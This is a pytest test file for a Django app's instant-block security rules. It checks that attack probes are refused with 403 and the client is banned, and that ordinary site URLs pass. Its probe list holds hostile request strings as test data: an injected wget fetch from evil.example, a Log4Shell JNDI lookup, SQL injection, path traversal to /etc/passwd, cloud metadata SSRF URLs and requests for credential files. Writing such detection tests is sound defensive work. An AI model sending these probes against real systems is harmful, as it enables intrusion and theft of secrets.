"""The instant-block rules: each category blocks its probes; ordinary Spark URLs pass."""

from __future__ import annotations

import pytest
from django.test import Client

from security.models import Ban
from security.rules import RULES_DIR, get_matcher, load_rules

pytestmark = pytest.mark.django_db

BROWSER_UA = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0 Safari/537.36"
)

# (category, path with query, user agent)
PROBES: list[tuple[str, str, str]] = [
    ("shells", "/c99.php", BROWSER_UA),
    ("shells", "/uploads/wso2.aspx", BROWSER_UA),
    ("shells", "/shell.jsp", BROWSER_UA),
    ("shells", "/cgi-bin/../../bin/sh", BROWSER_UA),
    ("shells", "/index?cmd=whoami", BROWSER_UA),
    ("shells", "/x?q=;wget%20http://evil.example/x.sh", BROWSER_UA),
    ("secrets", "/.env", BROWSER_UA),
    ("secrets", "/app/.env.production", BROWSER_UA),
    ("secrets", "/.git/config", BROWSER_UA),
    ("secrets", "/.aws/credentials", BROWSER_UA),
    ("secrets", "/backup.sql.gz", BROWSER_UA),
    ("secrets", "/settings.py.bak", BROWSER_UA),
    ("secrets", "/id_rsa", BROWSER_UA),
    ("secrets", "/.DS_Store", BROWSER_UA),
    ("secrets", "/.travis.yml", BROWSER_UA),
    ("secrets", "/deep/down/.vscode/launch.json", BROWSER_UA),
    ("secrets", "/WEB-INF/web.xml", BROWSER_UA),
    ("secrets", "/app/META-INF/MANIFEST.MF", BROWSER_UA),
    ("secrets", "/etc/nginx/sites-enabled/default.conf", BROWSER_UA),
    ("secrets", "/appsettings.Development.json", BROWSER_UA),
    ("secrets", "/conf/tomcat-users.xml", BROWSER_UA),
    ("secrets", "/CHANGELOG.md", BROWSER_UA),
    ("wordpress_php", "/wp-login.php", BROWSER_UA),
    ("wordpress_php", "/wp-admin/", BROWSER_UA),
    ("wordpress_php", "/blog/wp-includes/wlwmanifest.xml", BROWSER_UA),
    ("wordpress_php", "/xmlrpc", BROWSER_UA),
    ("wordpress_php", "/phpMyAdmin/", BROWSER_UA),
    ("wordpress_php", "/index.aspx", BROWSER_UA),
    ("wordpress_php", "/umbraco/", BROWSER_UA),
    ("wordpress_php", "/CFIDE/adminapi/", BROWSER_UA),
    ("wordpress_php", "/api/service.svc", BROWSER_UA),
    ("wordpress_php", "/swagger.json", BROWSER_UA),
    ("metadata", "/proxy?url=http://169.254.169.254/latest/meta-data/", BROWSER_UA),
    ("metadata", "/latest/meta-data/iam/", BROWSER_UA),
    ("metadata", "/fetch?u=http://metadata.google.internal/computeMetadata/v1/", BROWSER_UA),
    ("metadata", "/x?u=http://[fd00:ec2::254]/", BROWSER_UA),
    ("metadata", "/x?u=http://100.100.100.200/", BROWSER_UA),
    ("traversal", "/static-files/..%2f..%2fetc/passwd", BROWSER_UA),
    ("traversal", "/a/%252e%252e/%252e%252e/x", BROWSER_UA),
    ("traversal", "/download?file=....//....//x", BROWSER_UA),
    ("traversal", "/x?f=%c0%ae%c0%ae/", BROWSER_UA),
    ("traversal", "/include?page=php://filter/resource=x", BROWSER_UA),
    ("iot", "/boaform/admin/formLogin", BROWSER_UA),
    ("iot", "/HNAP1/", BROWSER_UA),
    ("iot", "/GponForm/diag_Form?images/", BROWSER_UA),
    ("iot", "/cgi-bin/luci/;stok=/locale", BROWSER_UA),
    ("iot", "/remote/fgt_lang?lang=/../../x", BROWSER_UA),
    ("iot", "/webui/", BROWSER_UA),
    ("iot", "/vendor/", BROWSER_UA),
    ("exploits", "/?x=${jndi:ldap://evil.example/a}", BROWSER_UA),
    ("exploits", "/actuator/env", BROWSER_UA),
    ("exploits", "/manager/html", BROWSER_UA),
    ("exploits", "/solr/admin/info/system", BROWSER_UA),
    ("exploits", "/search?q=1 union select null,null--", BROWSER_UA),
    ("exploits", "/autodiscover/autodiscover.json", BROWSER_UA),
    ("exploits", "/containers/json", BROWSER_UA),
    ("exploits", "/_cluster/health", BROWSER_UA),
    ("exploits", "/configprops", BROWSER_UA),
    ("scanners", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("scanners", "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
    ("scanners", "/api/v1/me/", "Mozilla/5.0 zgrab/0.x"),
    (
        "scanners",
        "/",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    ("scanners", "/", "Fuzz Faster U Fool v2.1.0"),
    ("scanners", "/", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"),
]

# Ordinary Spark URLs (pages, API, admin, allauth, files, landing pages): never blocked.
CORPUS: list[str] = [
    "/",
    "/healthz",
    "/readyz",
    "/accounts/login/",
    "/accounts/login/?next=/settings/api-keys/",
    "/accounts/login/?next=%2Fadmin%2Fsecurity%2Fban%2F",
    "/accounts/signup/",
    "/accounts/logout/",
    "/accounts/password/reset/",
    "/accounts/password/reset/key/1-set-password/",
    "/accounts/password/change/",
    "/accounts/email/",
    "/accounts/confirm-email/MQ:1tQx5a:abcDEF123/",
    "/accounts/magic-link/",
    "/accounts/magic-link/sign-in/?token=AAAAAQ3sHhK1tZ9dWcYH&next=/",
    "/accounts/google/login/?process=login",
    "/accounts/google/login/callback/?code=4/0Ab32&state=xyz&scope=email+profile",
    "/accounts/2fa/",
    "/accounts/2fa/totp/activate/",
    "/accounts/2fa/authenticate/",
    "/accounts/sessions/",
    "/accounts/3rdparty/",
    "/settings/",
    "/settings/api-keys/",
    "/settings/api-keys/7b0c9a7e-1f1e-4b8a-9a57-2c1d3e4f5a6b/revoke/",
    "/api/v1/me/",
    "/api/v1/api-keys/",
    "/api/v1/api-keys/7b0c9a7e-1f1e-4b8a-9a57-2c1d3e4f5a6b/",
    "/api/v1/files/",
    "/api/v1/files/7b0c9a7e-1f1e-4b8a-9a57-2c1d3e4f5a6b/",
    "/api/v1/conversations/?cursor=cD0yMDI2LTExLTI4&page_size=50",
    "/api/v1/prompts/?search=sql+backup+expert&category=coding",
    "/api/v1/prompts/?search=how+to+use+wordpress+safely",
    "/api/schema/",
    "/api/docs/",
    "/v1/chat/completions",
    "/v1/models",
    "/admin/",
    "/admin/login/?next=/admin/",
    "/admin/accounts/user/",
    "/admin/accounts/user/12/change/",
    "/admin/accounts/user/?q=alice%40example.com&is_staff__exact=1",
    "/admin/security/auditlogentry/?action__exact=change&created_at__gte=2026-01-01",
    "/admin/security/ban/",
    "/admin/security/activeban/",
    "/admin/security/cloudflareblock/",
    "/admin/jsi18n/",
    "/admin/security-overview/",
    "/i18n/setlang/",
    "/jsi18n/",
    "/files/eyJmIjoiN2IwYyIsInUiOjF9:1tQx5a:Zm9vYmFyYmF6/",
    "/p/sql-backup-expert/",
    "/p/wordpress-helper/",
    "/p/wp-admin-guide/",
    "/p/phpmyadmin-tips/",
    "/p/env-setup-coach/",
    "/p/git-mentor/",
    "/p/shell-scripting-tutor/",
    "/p/config-reviewer/",
    "/p/console-game-master/",
    "/p/metadata-explainer/",
    "/p/ipcamera-setup/",
    "/p/interview-coach/?ref=newsletter&utm_source=mail&utm_medium=email",
    "/c/7b0c9a7e-1f1e-4b8a-9a57-2c1d3e4f5a6b/",
    "/chat/",
    "/chat/7b0c9a7e-1f1e-4b8a-9a57-2c1d3e4f5a6b/",
    "/chat/?q=50%25+off+prompts",
    "/marketplace/?category=writing&sort=-rating",
    "/marketplace/category/code-and-data/",
    "/billing/",
    "/billing/checkout/success/?session_id=cs_test_a1b2c3",
    "/webhooks/stripe/",
    "/webhooks/twilio/whatsapp/",
    "/webhooks/elevenlabs/",
    "/voice/",
    "/exports/7b0c9a7e-1f1e-4b8a-9a57-2c1d3e4f5a6b/download/",
    "/.well-known/security.txt",
    "/.well-known/acme-challenge/Xa3kL9",
    "/.well-known/openid-configuration",
    "/accounts/login/?next=/settings.json",
    "/api/v1/prompts/?search=.env+file+explained",
    "/p/nagios/",
    "/p/umbraco/",
    "/p/graphql-tutor/",
    "/marketplace/category/config/",
    "/billing/platform/export.csv?from=2026-01-01&to=2026-02-01",
    "/sitemap.xml",
    "/media/avatars/",
]


def _blocked(client: Client, url: str, user_agent: str, ip: str) -> int:
    return client.get(url, HTTP_USER_AGENT=user_agent, REMOTE_ADDR=ip).status_code


def test_at_least_230_rules_are_kept_as_data_in_rule_files() -> None:
    rules = load_rules()
    assert len(rules) >= 230
    categories = {rule.category for rule in rules}
    assert categories == {path.stem for path in RULES_DIR.glob("*.txt")}
    assert categories == {category for category, _url, _ua in PROBES}


@pytest.mark.parametrize(("category", "url", "user_agent"), PROBES)
def test_each_category_blocks_its_probes_and_bans_the_client(
    client: Client, category: str, url: str, user_agent: str
) -> None:
    status = _blocked(client, url, user_agent, "203.0.113.10")
    assert status == 403
    ban = Ban.objects.get(ip="203.0.113.10")
    assert ban.reason == Ban.Reason.RULE
    assert ban.category == category
    # Banned now: even an ordinary page is refused.
    assert _blocked(client, "/accounts/login/", BROWSER_UA, "203.0.113.10") == 403


@pytest.mark.parametrize("url", CORPUS)
def test_ordinary_spark_urls_match_no_rule(url: str) -> None:
    path, _, query = url.partition("?")
    assert get_matcher().match(path=path, query=query, user_agent=BROWSER_UA) is None


@pytest.mark.parametrize(
    "user_agent",
    [
        BROWSER_UA,
        "curl/8.5.0",
        "python-requests/2.32.3",
        "python-httpx/0.28.1",
        "OpenAI/Python 1.55.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "",
    ],
)
def test_api_clients_and_crawlers_are_not_scanners(user_agent: str) -> None:
    assert get_matcher().match(path="/api/v1/me/", user_agent=user_agent) is None


def test_ordinary_requests_pass_the_filter_and_ban_nobody(client: Client) -> None:
    for url in ["/", "/accounts/login/", "/api/schema/", "/p/wp-admin-guide/"]:
        assert _blocked(client, url, BROWSER_UA, "198.51.100.20") != 403
    assert not Ban.objects.exists()


def test_exempt_paths_are_never_filtered(client: Client) -> None:
    assert _blocked(client, "/static/.env", "sqlmap/1.7", "203.0.113.11") != 403
    assert _blocked(client, "/healthz", "sqlmap/1.7", "203.0.113.11") == 200
    assert not Ban.objects.exists()


def test_an_exempt_prefix_does_not_exempt_traversal_behind_it(client: Client) -> None:
    assert _blocked(client, "/static/../WEB-INF/web.xml", BROWSER_UA, "203.0.113.11") == 403
    assert Ban.objects.filter(ip="203.0.113.11").count() == 1


def test_an_exempt_prefix_still_skips_the_rules_for_its_files(client: Client) -> None:
    # A static file whose name a rule would refuse elsewhere is served untouched
    assert _blocked(client, "/static/build/.built", BROWSER_UA, "203.0.113.12") != 403
    assert not Ban.objects.filter(ip="203.0.113.12").exists()
